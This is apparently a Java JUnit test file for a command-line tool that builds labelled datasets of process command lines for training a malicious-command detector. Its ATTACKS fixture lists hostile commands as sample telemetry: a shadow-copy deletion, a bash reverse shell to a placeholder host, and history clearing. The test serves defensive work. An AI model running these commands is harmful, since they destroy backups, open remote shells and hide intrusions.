package dev.longtail.job.cli;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import dev.longtail.training.data.LabelledSet;
import dev.longtail.udfs.io.Json;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

/** The command {@code dataset} as a user runs it, and {@code train} on what it wrote. */
class DatasetCommandTest {
  private static final List<String> ATTACKS =
      List.of(
          "vssadmin delete shadows /for=%d: /quiet",
          "bash -i >& /dev/tcp/h%d.example/443 0>&1", "history -c && exit %d");
  private static final List<String> HARMLESS =
      List.of("git log -n %d", "tail -n %d app.log", "acmectl get item-%d", "ping -c %d db");

  @TempDir private Path folder;

  private Path write(String name, String text) throws IOException {
    Path file = folder.resolve(name);
    Files.createDirectories(file.getParent());
    return Files.writeString(file, text);
  }

  private String path(String name) {
    return folder.resolve(name).toString();
  }

  /** Two days, of two formats, with a record that is none. */
  private void telemetry() throws IOException {
    StringBuilder own = new StringBuilder();
    StringBuilder ecs = new StringBuilder();
    for (int i = 1; i <= 60; i++) {
      own.append(
          "{\"ts\":%d,\"host\":\"h%d\",\"os\":\"linux\",\"command_line\":\"%s\"}%n"
              .formatted(1736035200000L + i, i % 20, ATTACKS.get(i % ATTACKS.size()).formatted(i)));
      ecs.append(
          "{\"@timestamp\":\"2025-01-06T10:00:00Z\",\"event\":{\"category\":[\"process\"],\"type\":[\"start\"]},\"host\":{\"name\":\"h%d\",\"os\":{\"type\":\"linux\"}},\"process\":{\"command_line\":\"%s\"}}%n"
              .formatted(i % 20, HARMLESS.get(i % HARMLESS.size()).formatted(i)));
    }
    for (int host = 0; host < 12; host++) {
      ecs.append(
          "{\"ts\":1736121600000,\"host\":\"h%d\",\"cmd\":\"acmectl sync\"}%n".formatted(host));
    }
    write("events/2025-01-05.jsonl", own + "no record\n");
    write("events/2025-01-06.jsonl", ecs.toString());
  }

  private Console.Outcome dataset(String... more) {
    List<String> words =
        new ArrayList<>(List.of("dataset", "--out", path("out"), "--telemetry", path("events")));
    words.addAll(List.of(more));
    return Console.run(words.toArray(String[]::new));
  }

  @Test
  void makesWhatTrainingReads() throws IOException {
    telemetry();
    write(
        "cases.jsonl",
        "{\"cmd\":\"acmectl dump --all\",\"label\":\"malicious\",\"family\":\"case-7\"}\n");
    Console.Outcome outcome = dataset("--source", "cases=" + path("cases.jsonl"));
    assertThat(outcome.status()).as(outcome.err()).isZero();
    assertThat(outcome.out()).contains("rb ", "ab ");
    assertThat(outcome.err())
        .contains(
            "warning: 1 record of the telemetry cannot be used, first", "2025-01-05.jsonl:61");
    LabelledSet ab = LabelledSet.read("ab", folder.resolve("out/ab.jsonl.gz"));
    assertThat(ab.commands()).contains("acmectl dump --all", "acmectl sync", "git log -n 4");
    assertThat(LabelledSet.read("ab", folder.resolve("out/ab.parquet"))).isEqualTo(ab);
    JsonNode card = Json.MAPPER.readTree(folder.resolve("out/card.json").toFile());
    assertThat(card.at("/telemetry/process_starts").intValue()).isEqualTo(132);
    assertThat(card.at("/sets/rb/by_rule/seen-on-many-hosts/benign").intValue()).isEqualTo(1);
    assertThat(card.at("/sets/ab/by_family/case-7/malicious").intValue()).isEqualTo(1);

    String test = path("out/rb.parquet");
    Console.Outcome trained =
        Console.run(
            "train",
            "--rb",
            path("out/rb.parquet"),
            "--ab",
            path("out/ab.jsonl.gz"),
            "--incident",
            test,
            "--time-split",
            test,
            "--without-embeddings",
            "--trees",
            "2",
            "--replicates",
            "0",
            "--out",
            path("trained"));
    assertThat(trained.status()).as(trained.err()).isZero();
    JsonNode manifest =
        Json.MAPPER.readTree(folder.resolve("trained/models/ab/data.json").toFile());
    assertThat(manifest.get("base_sha256")).isEqualTo(card.at("/sets/ab/files/ab.jsonl.gz/sha256"));
  }

  /** A folder of a review: its sample, and what its page exported. */
  @Test
  void decisionsOfAReviewAreASource() throws IOException {
    StringBuilder verdicts = new StringBuilder();
    for (int i = 0; i < 3; i++) {
      verdicts.append(
          "{\"id\":\"e%d\",\"cmd\":\"run %d\",\"verdict\":\"BENIGN\",\"admitted\":true,\"reason\":\"r\",\"model\":\"judge-1\",\"prompt_version\":\"p1\"}%n"
              .formatted(i, i));
    }
    write("mined/verdicts/a.jsonl", verdicts.toString());
    Console.Outcome sampled =
        Console.run("review", "sample", "--input", path("mined"), "--out", path("review"));
    assertThat(sampled.status()).as(sampled.err()).isZero();
    List<String> decisions = List.of("benign", "malicious", "unsure");
    StringBuilder export = new StringBuilder();
    List<String> items = Files.readAllLines(folder.resolve("review/sample.jsonl"));
    for (int i = 0; i < items.size(); i++) {
      JsonNode item = Json.MAPPER.readTree(items.get(i));
      export.append(
          "{\"sample\":\"%s\",\"item\":\"%s\",\"decision\":\"%s\",\"reviewer\":\"ann\",\"at\":\"2026-01-05T12:00:00Z\"}%n"
              .formatted(item.get("sample").asText(), item.get("item").asText(), decisions.get(i)));
    }
    write("review/review-ann.jsonl", export.toString());
    Console.Outcome outcome =
        Console.run("dataset", "--source", "review=" + path("review"), "--out", path("out"));
    assertThat(outcome.status()).as(outcome.err()).isZero();
    assertThat(outcome.err()).contains("review: 2 labelled records (1 malicious), 1 undecided");
    LabelledSet ab = LabelledSet.read("ab", folder.resolve("out/ab.jsonl.gz"));
    assertThat(ab.rows()).hasSize(2);
    assertThat(folder.resolve("out/rb.jsonl.gz")).doesNotExist();
  }

  @ParameterizedTest
  @CsvSource(
      delimiter = '|',
      value = {
        "--out OUT | nothing to make a set of: give --telemetry, --source or both",
        "--out OUT --telemetry EVENTS --no-default-rules | leaves no rule: give --rules",
        "--out OUT --source rules=F | KIND=F, with cases, review, sandbox or telemetry",
        "--out OUT --source F | KIND=F, with cases, review, sandbox or telemetry",
        "--out OUT --source cases=F --source sandbox=F | this file is a source already",
        "--out OUT --telemetry E --from 2025-01-05 --to 2025-01-01 | is before the first",
        "--out OUT --telemetry E --from 2025-01-05 --test-from 2025-01-05 | is in the test period",
        "--out OUT --telemetry E --benign-hosts 1000 | from 0 to 100 are counted"
      })
  void badUsageIsSaid(String options, String message) {
    List<String> words = new ArrayList<>(List.of("dataset"));
    words.addAll(List.of(options.replace("OUT", path("out")).split(" ")));
    Console.Outcome outcome = Console.run(words.toArray(String[]::new));
    assertThat(outcome.status()).isEqualTo(Longtail.BAD_USAGE);
    assertThat(outcome.err()).contains(message);
    assertThat(folder.resolve("out")).doesNotExist();
  }

  @Test
  void badInputIsSaid() throws IOException {
    telemetry();
    Path rules = write("rules.yaml", "baseline-rules:\n  - id: a\n    label: malicious\n");
    Console.Outcome outcome = dataset("--rules", rules.toString());
    assertThat(outcome.status()).isEqualTo(Longtail.FAILED);
    assertThat(outcome.err()).contains("rules.yaml:2: rule \"a\": field \"reason\" is missing");
    assertThat(dataset("--test", path("none.jsonl")).err())
        .contains("none.jsonl: no such file or folder");
    assertThat(dataset("--from", "2030-01-01").err())
        .contains("no line is left to train on: 132 process starts in the telemetry, 132 out of");
    assertThat(folder.resolve("out")).doesNotExist();
  }
}
